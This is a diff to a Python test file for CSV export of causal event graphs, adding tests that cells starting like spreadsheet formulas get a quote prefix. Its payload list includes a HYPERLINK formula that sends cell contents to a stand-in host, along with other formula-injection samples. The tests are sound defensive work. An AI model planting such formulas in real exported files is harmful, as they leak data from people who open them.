@@ -19,7 +19,7 @@ from made_up_week import HEBREW_TITLE, HOSTILE_TITLE
 from small_graphs import small_graphs
 
 from whywire.graph.causal_graph import CausalGraph
-from whywire.graph.elements import Event
+from whywire.graph.elements import Event, HeadlineEvidence, Link, LinkKind, Order
 from whywire.graph.exports import TEXT_FORMATS, graph_csv, graph_cytoscape, graph_graphml, graph_json
 from whywire.graph.exports.characters import plain_text
 from whywire.graph.rows import event_rows, link_rows
@@ -77,10 +77,18 @@ def test_cytoscape_json_loads_back_as_the_graph(graph: CausalGraph) -> None:
 @settings(deadline=None, max_examples=25)
 @given(small_graphs())
 def test_the_two_tables_hold_every_row(graph: CausalGraph) -> None:
-    for table, rows in zip(graph_csv(graph), (event_rows(graph), link_rows(graph)), strict=True):
-        read = list(csv.DictReader(StringIO(table, newline=""), strict=True))
+    tables = zip(graph_csv(graph, raw=True), graph_csv(graph), (event_rows(graph), link_rows(graph)), strict=True)
+    for raw, table, rows in tables:
+        read = rows_of(raw)
         expected = [{name: cell(row.get(name)) for name in found} for found, row in zip(read, rows, strict=True)]
         assert [{name: unpacked(value) for name, value in found.items()} for found in read] == expected
+        for found, guarded in zip(read, rows_of(table), strict=True):
+            assert all(guarded[name] in (value, f"'{value}") for name, value in found.items())
+            assert not any(value.startswith(tuple("=+-@＝＋－＠\t\r\n")) for value in guarded.values())
+
+
+def rows_of(table: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(StringIO(table, newline=""), strict=True))
 
 
 def cell(value: object) -> object:
@@ -97,6 +105,67 @@ def unpacked(text: str) -> object:
     except ValueError:
         return text
     return value if isinstance(value, list) else text
+
+
+FORMULAS = [
+    '=HYPERLINK("https://harbour.example/?"&A1,"Read on")',
+    "@SUM(1)",
+    "+1",
+    "-1",
+    "-Infinity",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\r\n=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+]
+HARMLESS = ["Prices up 3 = 2 + 1", "'Quoted' by @mayor", "1-1", "[1]", "—dash", "“=1”", "е", "#1", ""]
+
+
+def with_words(words: str) -> CausalGraph:
+    """Two events with a link between them, whose titles are these words and whose ids begin with them."""
+    first, second = ids = f"{words}a", f"{words}b"
+    articles = {name: Article(name, words or "-") for name in ids}
+    events = tuple(Event(name, words, Language.ENGLISH, None, None, (name,), first) for name in ids)
+    evidence = (HeadlineEvidence(first, second, 0.9),)
+    link = Link(first, second, LinkKind.CAUSES, 0.9, 80.0, Order.UNKNOWN, evidence, closed_by=second)
+    return CausalGraph(articles, events, (link,), ())
+
+
+@pytest.mark.parametrize("words", FORMULAS)
+def test_no_cell_begins_like_a_formula(words: str) -> None:
+    (first, second), (link,) = map(rows_of, graph_csv(with_words(words)))
+    assert (first["id"], first["title"], first["story"]) == (f"'{words}a", f"'{words}", f"'{words}a")
+    assert (second["id"], second["title"], second["story"]) == (f"'{words}b", f"'{words}", f"'{words}a")
+    assert (link["source"], link["target"], link["closed_by"]) == (f"'{words}a", f"'{words}b", f"'{words}b")
+    assert (link["probability"], link["strength"], link["kind"]) == ("0.9", "80.0", "causes")
+    assert json.loads(first["articles"]) == [f"{words}a"]
+    assert json.loads(link["evidence"])[0]["source_article"] == f"{words}a"
+
+
+@pytest.mark.parametrize("words", HARMLESS)
+def test_a_cell_that_is_no_formula_stays_as_it_is(words: str) -> None:
+    graph = with_words(words)
+    assert graph_csv(graph) == graph_csv(graph, raw=True)
+    assert [event["title"] for event in rows_of(graph_csv(graph)[0])] == [words] * 2
+
+
+@pytest.mark.parametrize("words", FORMULAS + HARMLESS)
+def test_raw_cells_are_the_very_words(words: str) -> None:
+    events, (link,) = map(rows_of, graph_csv(with_words(words), raw=True))
+    assert [(event["id"], event["title"], event["story"]) for event in events] == [
+        (f"{words}{place}", words, f"{words}a") for place in "ab"
+    ]
+    assert (link["source"], link["target"], link["closed_by"]) == (f"{words}a", f"{words}b", f"{words}b")
+
+
+def test_the_header_row_is_the_same_either_way(graph: CausalGraph) -> None:
+    for table, raw in zip(graph_csv(graph), graph_csv(graph, raw=True), strict=True):
+        assert table.split("\r\n")[0] == raw.split("\r\n")[0]
+    assert graph_csv(CausalGraph()) == graph_csv(CausalGraph(), raw=True)
 
 
 def test_exports_are_the_same_bytes_again(graph: CausalGraph) -> None:
